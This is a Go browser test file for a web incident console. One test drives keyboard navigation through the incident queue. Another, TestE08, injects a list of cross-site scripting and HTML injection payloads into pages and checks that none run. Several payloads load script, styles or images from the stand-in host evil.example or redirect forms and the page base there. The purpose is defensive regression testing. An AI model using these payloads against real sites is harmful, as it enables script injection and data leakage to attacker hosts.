package console_test

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"mimamori/web/webtest"
)

// site serves the pages over plain HTTP to a browser that has signed in as b:
// cookies are __Host- and Secure, so the test carries them.
func (p *place) site(b *browser, lang string) *httptest.Server {
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.Header.Del("Cookie")
		for name, value := range b.cookies {
			if r.URL.Path != "/sign-in" {
				r.AddCookie(&http.Cookie{Name: name, Value: value})
			}
		}
		r.AddCookie(&http.Cookie{Name: "mimamori-lang", Value: lang})
		p.handler.ServeHTTP(w, r)
	}))
	p.t.Cleanup(func() {
		s.CloseClientConnections() // a page still open watches for news
		s.Close()
	})
	return s
}

// TestWholeDeskByKeys works through the queue without a mouse.
func TestWholeDeskByKeys(t *testing.T) {
	if testing.Short() {
		t.Skip("a browser takes a minute")
	}
	ctx := webtest.Browser(t)
	p := newPlace(t)
	b, _ := p.pages()
	site := p.site(b, "en")
	do := func(steps ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		if err := chromedp.Do(ctx, steps...); err != nil {
			t.Fatal(err)
		}
	}
	is := func(what, script string) {
		t.Helper()
		for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(50 * time.Millisecond) {
			ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](script))
			if err == nil && ok {
				return
			}
			if time.Now().After(deadline) {
				shown, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`location.pathname + " " + document.activeElement.outerHTML.slice(0, 300) + " " + document.activeElement.value`))
				t.Fatalf("not so: %s (%v): %s", what, err, shown)
			}
		}
	}
	focused := func(id string) string { return `document.activeElement.getAttribute("href")?.includes("` + id + `")` }
	do(chromedp.Navigate(site.URL+"/"), chromedp.KeyEvent("j"))
	is("J goes to the first row", focused(string(mall)))
	do(chromedp.KeyEvent("j"))
	is("and on to the second", focused(string(night)))
	do(chromedp.KeyEvent("k"))
	is("K goes back", focused(string(mall)))
	do(chromedp.KeyEvent("?"))
	is("? shows the keys", `document.getElementById("keys").open`)
	do(chromedp.KeyEvent("j"))
	is("which keep the keys to themselves", `document.getElementById("keys").open`)
	do(chromedp.KeyEvent("\x1b"))
	is("Escape closes them", `!document.getElementById("keys").open`)
	do(chromedp.KeyEvent("/"))
	is("/ goes to the search", `document.activeElement.id === "search"`)
	do(chromedp.KeyEvent("jk"))
	is("where letters are letters", `document.getElementById("search").value.endsWith("jk") && !document.getElementById("keys").open`)
	do(chromedp.Navigate(site.URL+"/"), chromedp.KeyEvent("j"), chromedp.KeyEvent("j"), chromedp.KeyEvent("\r"))
	is("Enter opens the incident", `location.pathname.endsWith("`+string(night)+`") && !!document.querySelector(".incident") && document.readyState === "complete"`)
	do(chromedp.Sleep(200*time.Millisecond), chromedp.KeyEvent("n"))
	is("N goes to the note", `document.activeElement.id === "note"`)
	do(chromedp.Navigate(site.URL+"/incidents/"+string(night)), chromedp.KeyEvent("g"))
	is("G goes back to the queue", `location.pathname === "/"`)
}

// outsiders are texts that somebody outside of the desk may have written.
var outsiders = []string{
	`<script>window.ran=1</script>`, `"><img src=x onerror="window.ran=1">`, `' autofocus onfocus='window.ran=1`, `</textarea><svg/onload=window.ran=1>`,
	`</title><script src="https://evil.example/x.js"></script>`, `<iframe srcdoc="<script>parent.ran=1</script>">`, `javascript:window.ran=1`, `{{.Me}}${window.ran=1}`,
	`<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/x)}</style>`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<math><mi xlink:href="javascript:window.ran=1">`, `<a href="javascript:window.ran=1">x</a>`, `<form action="https://evil.example"><button>`, "\u202egnp.exe", "a\x00<script>window.ran=1</script>",
	`<img src=https://evil.example/pixel.png>`, `<details open ontoggle=window.ran=1>`, `<input type=image src=x onerror=window.ran=1>`, `--><script>window.ran=1</script><!--`,
}

// TestE08_NothingFromOutsideRunsInABrowser opens the pages with such texts in
// every place: no script of theirs runs, nobody else is asked, and the browser
// has nothing to report to the content security policy.
func TestE08_NothingFromOutsideRunsInABrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("a browser takes a minute")
	}
	ctx := webtest.Browser(t)
	p := newPlace(t)
	b, _ := p.pages()
	site := p.site(b, "en")
	var mu sync.Mutex
	var wrong []string
	err := chromedp.Listen(ctx, func(ev any) {
		mu.Lock()
		defer mu.Unlock()
		switch e := ev.(type) {
		case *runtime.EventExceptionThrown:
			wrong = append(wrong, "exception: "+e.ExceptionDetails.Text)
		case *log.EventEntryAdded:
			if strings.Contains(e.Entry.Text, "Content Security Policy") || strings.Contains(e.Entry.Text, "evil.example") {
				wrong = append(wrong, e.Entry.Text)
			}
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, evil := range outsiders {
		p.flow.evil, p.analyst.evil = evil, evil
		for _, path := range []string{"/incidents/" + string(night), "/waiting", "/live/one?" + oddOne.Query()} {
			if err := chromedp.Do(ctx, chromedp.Navigate(site.URL+path)); err != nil {
				t.Fatal(err)
			}
			at, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelectorAll("details").forEach(d => d.open = true), (window.ran ? "ran " : "") + location.host + (document.querySelector("main img, main iframe, main style, main script, main base, main [onfocus]") ? " holds markup" : "")`))
			if err != nil || "http://"+at != site.URL {
				t.Errorf("%s with %q: %s, %v", path, evil, at, err)
			}
		}
	}
	mu.Lock()
	defer mu.Unlock()
	for _, w := range wrong {
		t.Errorf("the browser reports: %s", w)
	}
}
